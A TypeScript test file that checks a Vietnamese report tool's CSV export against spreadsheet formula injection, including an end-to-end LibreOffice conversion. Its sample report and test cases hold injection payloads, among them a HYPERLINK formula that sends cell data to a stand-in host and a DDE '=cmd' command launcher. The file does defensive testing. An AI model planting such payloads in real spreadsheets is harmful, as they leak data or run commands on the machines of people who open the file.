import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvField, inertText } from '../../output/format.ts';

const run = promisify(execFile);
const root = fileURLToPath(new URL('../../', import.meta.url));
const cli = join(root, 'bin/baocao.js');

describe('text that a spreadsheet would run as a formula', () => {
  it.each([
    ['=HYPERLINK("http://x.invalid","bấm")', `'=HYPERLINK("http://x.invalid","bấm")`],
    ['+1+2', `'+1+2`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['  =1+1', `'  =1+1`],
    ['＝1+1', `'＝1+1`],
    ['Tổng diện tích = 100 ha', 'Tổng diện tích = 100 ha'],
    ['a-b', 'a-b'],
    ['', ''],
  ])('%j is written as %j', (text, inert) => {
    expect(inertText(text)).toBe(inert);
  });

  it('numbers, negative ones too, stay numbers', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField('-12,5')).toBe(`"'-12,5"`);
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
  });
});

function has(command: string): boolean {
  try {
    execFileSync('sh', ['-c', `command -v ${command}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

const soffice = has('soffice');

/** A report whose sentences start the way CSV injection payloads do, each with a number the pipeline keeps. */
const REPORT = [
  'ỦY BAN NHÂN DÂN HUYỆN THỬ',
  'Số: 12/BC-UBND',
  'BÁO CÁO tình hình kinh tế - xã hội năm 2024',
  '=HYPERLINK("http://x.invalid/?q="&A1,"bấm") diện tích lúa đạt 1.200 ha.',
  "=cmd|' /C calc'!A0 sản lượng lương thực đạt 8.000 tấn.",
  '+1+2 số hộ nghèo giảm còn 310 hộ.',
  '-2+3 tổng vốn đầu tư đạt 45 tỷ đồng.',
  '@SUM(A1:A9) số trường học đạt chuẩn là 12 trường.',
  '',
].join('\n');

describe.skipIf(!soffice)('baocao export --format csv, opened by LibreOffice', () => {
  const dir = mkdtempSync(join(tmpdir(), 'baocao-csvinj-'));
  const db = join(dir, 'w.sqlite');
  const csv = join(dir, 'facts.csv');
  const cells: { address: string; formula: string | undefined; text: string }[] = [];

  beforeAll(async () => {
    writeFileSync(join(dir, 'bao-cao.txt'), REPORT);
    await run(process.execPath, [cli, 'ingest', join(dir, 'bao-cao.txt'), '--db', db], { cwd: root });
    await run(process.execPath, [cli, 'export', '--db', db, '--format', 'csv', '--out', csv], { cwd: root });
    // LibreOffice's own CSV import, as an analyst opening the file would get it, saved as XLSX
    await run(
      'soffice',
      ['--headless', `-env:UserInstallation=file://${join(dir, 'lo-profile')}`, '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, csv],
      { timeout: 120_000 },
    );
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(dir, 'facts.xlsx'));
    book.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        cells.push({ address: cell.address, formula: cell.formula, text: cell.text });
      }),
    );
  }, 180_000);

  it('has no formula cell, and keeps each sentence as text', () => {
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    const texts = cells.map((c) => c.text);
    for (const start of ['=HYPERLINK(', "=cmd|' /C calc'", '+1+2', '-2+3', '@SUM(']) {
      expect(texts.some((t) => t.includes(start))).toBe(true);
    }
  });

  it('the CSV itself starts no field with a formula character', () => {
    const fields = readFileSync(csv, 'utf8').split(/[,\r\n]/);
    expect(fields.filter((f) => /^"?[=+@]/.test(f))).toEqual([]);
  });
});
